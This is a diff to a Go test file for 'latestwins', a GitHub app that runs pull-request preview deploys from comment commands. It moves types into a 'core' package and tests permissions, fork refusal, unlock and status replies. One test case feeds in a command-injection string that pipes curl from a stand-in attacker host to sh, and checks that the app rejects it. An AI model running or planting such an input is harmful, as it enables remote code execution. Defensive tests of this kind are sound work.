@@ -10,6 +10,8 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 
+	"github.com/latestwins/latestwins/app/internal/comments"
+	"github.com/latestwins/latestwins/app/internal/core"
 	"github.com/latestwins/latestwins/internal/authority"
 	"github.com/latestwins/latestwins/internal/ghadapter"
 )
@@ -106,19 +108,19 @@ func TestCommentCommands(t *testing.T) {
 		seed       func(t *testing.T, h *harness)
 		permission string // the commenter's role, when asked
 		status     int
-		outcome    Outcome
+		outcome    core.Outcome
 		calls      []string
 		reply      []string // substrings of the reply
-		check      func(t *testing.T, h *harness, res Result)
+		check      func(t *testing.T, h *harness, res core.Result)
 	}{
 		{
 			name:       "collaborator deploys the pull request's head",
 			seed:       func(t *testing.T, h *harness) { deployed(t, h, "preview/pr-1", "pr-opened", headSha, "api", "worker") },
-			permission: "write", status: http.StatusOK, outcome: OutcomeAccepted,
+			permission: "write", status: http.StatusOK, outcome: core.OutcomeAccepted,
 			calls: []string{react, perm, dispatch, reply},
 			reply: []string{"preview/pr-1: accepted ec26c3e at generation 2 for api.", "Dispatched preview.yml on changes in Codertocat/Hello-World (scopes api)."},
-			check: func(t *testing.T, h *harness, res Result) {
-				want := []DispatchRequest{{Installation: fixtureInstallID, Repo: RepoRef{Owner: "Codertocat", Name: "Hello-World"}, Workflow: "preview.yml", Ref: "changes",
+			check: func(t *testing.T, h *harness, res core.Result) {
+				want := []core.DispatchRequest{{Installation: fixtureInstallID, Repo: core.RepoRef{Owner: "Codertocat", Name: "Hello-World"}, Workflow: "preview.yml", Ref: "changes",
 					Inputs: map[string]string{"environment": "preview/pr-1", "generation": "2", "scopes": "api"}}}
 				if diff := cmp.Diff(want, res.Dispatched); diff != "" {
 					t.Errorf("dispatched (-want +got):\n%s", diff)
@@ -130,11 +132,11 @@ func TestCommentCommands(t *testing.T) {
 			seed: func(t *testing.T, h *harness) {
 				deployedRef(t, h, "preview/pr-1", "pr-opened", headSha, "refs/pull/1/head", "api", "worker")
 			},
-			permission: "write", status: http.StatusOK, outcome: OutcomeAccepted,
+			permission: "write", status: http.StatusOK, outcome: core.OutcomeAccepted,
 			calls: []string{react, perm, reply},
 			reply: []string{"preview/pr-1: accepted ec26c3e at generation 2 for api.",
 				"refs/pull/1/head is not a branch of Codertocat/Hello-World (a pull request from a fork): latestwins does not dispatch fork previews."},
-			check: func(t *testing.T, h *harness, res Result) {
+			check: func(t *testing.T, h *harness, res core.Result) {
 				if len(res.Dispatched) != 0 {
 					t.Errorf("dispatched %+v, want nothing", res.Dispatched)
 				}
@@ -150,23 +152,23 @@ func TestCommentCommands(t *testing.T) {
 		{
 			name:       "a head already pending is not accepted twice",
 			seed:       func(t *testing.T, h *harness) { pending(t, h, "preview/pr-1", "pr-opened", headSha, "api") },
-			permission: "admin", status: http.StatusOK, outcome: OutcomeAccepted,
+			permission: "admin", status: http.StatusOK, outcome: core.OutcomeAccepted,
 			calls: []string{react, perm, reply},
 			reply: []string{"preview/pr-1: api already has ec26c3e pending or live (generation 1); nothing new to deploy."},
 		},
 		{
 			name:       "deploy before latestwins has seen the pull request",
-			permission: "write", status: http.StatusOK, outcome: OutcomeReplied,
+			permission: "write", status: http.StatusOK, outcome: core.OutcomeReplied,
 			calls: []string{react, perm, reply},
 			reply: []string{"preview/pr-1: no commit of this pull request is known yet"},
 		},
 		{
 			name:       "non-collaborator is refused",
 			seed:       func(t *testing.T, h *harness) { deployed(t, h, "preview/pr-1", "pr-opened", headSha, "api") },
-			permission: "read", status: http.StatusOK, outcome: OutcomeRefused,
+			permission: "read", status: http.StatusOK, outcome: core.OutcomeRefused,
 			calls: []string{react, perm, reply},
 			reply: []string{"`\"Codertocat\"` cannot run `/latestwins deploy`: it needs write permission on Codertocat/Hello-World."},
-			check: func(t *testing.T, h *harness, _ Result) {
+			check: func(t *testing.T, h *harness, _ core.Result) {
 				if env, _ := h.auth.Status(context.Background(), "preview/pr-1"); env.Desired != 1 {
 					t.Errorf("desired generation %d after a refused deploy, want 1", env.Desired)
 				}
@@ -178,7 +180,7 @@ func TestCommentCommands(t *testing.T) {
 				u := m["comment"].(map[string]any)["user"].(map[string]any)
 				u["login"], u["type"] = "latestwins[bot]", "Bot"
 			},
-			status: http.StatusAccepted, outcome: OutcomeIgnored,
+			status: http.StatusAccepted, outcome: core.OutcomeIgnored,
 		},
 		{
 			name: "edited comment",
@@ -186,44 +188,44 @@ func TestCommentCommands(t *testing.T) {
 				m["action"] = "edited"
 				m["changes"] = map[string]any{"body": map[string]any{"from": "hi"}}
 			},
-			status: http.StatusAccepted, outcome: OutcomeIgnored,
+			status: http.StatusAccepted, outcome: core.OutcomeIgnored,
 		},
 		{
 			name:   "comment on an issue",
 			edit:   func(m map[string]any) { delete(m["issue"].(map[string]any), "pull_request") },
-			status: http.StatusAccepted, outcome: OutcomeIgnored,
+			status: http.StatusAccepted, outcome: core.OutcomeIgnored,
 		},
 		{
 			name:   "not a command",
 			edit:   withBody("Looks good to me"),
-			status: http.StatusAccepted, outcome: OutcomeIgnored,
+			status: http.StatusAccepted, outcome: core.OutcomeIgnored,
 		},
 		{
 			name:   "unknown command gets the help text",
 			edit:   withBody("/latestwins destroy"),
-			status: http.StatusOK, outcome: OutcomeReplied,
+			status: http.StatusOK, outcome: core.OutcomeReplied,
 			calls: []string{react, reply},
-			reply: []string{"unknown command `\"destroy\"`", Usage},
+			reply: []string{"unknown command `\"destroy\"`", comments.Usage},
 		},
 		{
 			name:   "injection attempt reaches nothing",
 			edit:   withBody("/latestwins deploy api;curl${IFS}evil.example|sh"),
-			status: http.StatusOK, outcome: OutcomeReplied,
+			status: http.StatusOK, outcome: core.OutcomeReplied,
 			calls: []string{react, reply},
 			reply: []string{"`\"api;curl${IFS}evil.example|sh\"` is not a scope name"},
 		},
 		{
 			name:   "help",
 			edit:   withBody("/latestwins help"),
-			status: http.StatusOK, outcome: OutcomeReplied,
+			status: http.StatusOK, outcome: core.OutcomeReplied,
 			calls: []string{react, reply},
-			reply: []string{Usage},
+			reply: []string{comments.Usage},
 		},
 		{
 			name:   "status is open to everyone and rendered from the store",
 			edit:   withBody("/latestwins status"),
 			seed:   func(t *testing.T, h *harness) { deployed(t, h, "preview/pr-1", "pr-opened", headSha, "api", "worker") },
-			status: http.StatusOK, outcome: OutcomeReplied,
+			status: http.StatusOK, outcome: core.OutcomeReplied,
 			calls: []string{react, reply},
 			reply: []string{"**preview/pr-1** 1/1 settled", "| api |", "| worker |", "`ec26c3e`"},
 		},
@@ -239,10 +241,10 @@ func TestCommentCommands(t *testing.T) {
 					t.Fatal(err)
 				}
 			},
-			permission: "maintain", status: http.StatusOK, outcome: OutcomeUnlocked,
+			permission: "maintain", status: http.StatusOK, outcome: core.OutcomeUnlocked,
 			calls: []string{react, perm, reply},
 			reply: []string{"Unlocked preview/pr-1/api (was held by `\"run-7\"` for deploy, token 1)."},
-			check: func(t *testing.T, h *harness, _ Result) {
+			check: func(t *testing.T, h *harness, _ core.Result) {
 				env, err := h.auth.Status(context.Background(), "preview/pr-1")
 				if err != nil {
 					t.Fatal(err)
@@ -260,7 +262,7 @@ func TestCommentCommands(t *testing.T) {
 			name:       "unlock of what is not locked says so",
 			edit:       withBody("/latestwins unlock"),
 			seed:       func(t *testing.T, h *harness) { deployed(t, h, "preview/pr-1", "pr-opened", headSha, "api", "worker") },
-			permission: "write", status: http.StatusOK, outcome: OutcomeUnlocked,
+			permission: "write", status: http.StatusOK, outcome: core.OutcomeUnlocked,
 			calls: []string{react, perm, reply},
 			reply: []string{"Not locked: preview/pr-1/api, preview/pr-1/worker."},
 		},
@@ -271,10 +273,10 @@ func TestCommentCommands(t *testing.T) {
 				deployed(t, h, "preview/pr-1", "first", olderSha, "api", "worker")
 				deployed(t, h, "preview/pr-1", "second", headSha, "worker")
 			},
-			permission: "write", status: http.StatusOK, outcome: OutcomeAccepted,
+			permission: "write", status: http.StatusOK, outcome: core.OutcomeAccepted,
 			calls: []string{react, perm, dispatch, reply},
 			reply: []string{"preview/pr-1: accepted 34c5c77 at generation 3 for api."},
-			check: func(t *testing.T, h *harness, res Result) {
+			check: func(t *testing.T, h *harness, res core.Result) {
 				env, err := h.auth.Status(context.Background(), "preview/pr-1")
 				if err != nil {
 					t.Fatal(err)
@@ -294,7 +296,7 @@ func TestCommentCommands(t *testing.T) {
 		{
 			name:       "redeploy of a scope that is not a preview scope",
 			edit:       withBody("/latestwins redeploy web"),
-			permission: "write", status: http.StatusOK, outcome: OutcomeNoScopes,
+			permission: "write", status: http.StatusOK, outcome: core.OutcomeNoScopes,
 			calls: []string{react, perm, reply},
 			reply: []string{"`\"web\"` is not a preview scope of Codertocat/Hello-World; the scopes are: api, worker."},
 		},
@@ -367,7 +369,7 @@ func TestCommentRedeliveryAnswersOnce(t *testing.T) {
 	body := commentFixture(t, nil)
 	first := decodeResult(t, h.post(t, "issue_comment", "d-same", body))
 	second := decodeResult(t, h.post(t, "issue_comment", "d-same", body))
-	if first.Outcome != OutcomeAccepted || second.Outcome != OutcomeDuplicate {
+	if first.Outcome != core.OutcomeAccepted || second.Outcome != core.OutcomeDuplicate {
 		t.Errorf("outcomes %s then %s, want accepted then duplicate", first.Outcome, second.Outcome)
 	}
 	if !strings.Contains(replyOf(t, reply), "accepted ec26c3e at generation 2") {
@@ -387,7 +389,7 @@ func TestCommentWithInvalidConfigurationReplies(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	h.app.config = trustedOver(t, files)
+	h.app.core.Config = trustedOver(t, files)
 	rec := h.post(t, "issue_comment", "d1", commentFixture(t, withBody("/latestwins status")))
 	if rec.Code != http.StatusUnprocessableEntity {
 		t.Errorf("%d %s, want 422", rec.Code, rec.Body)
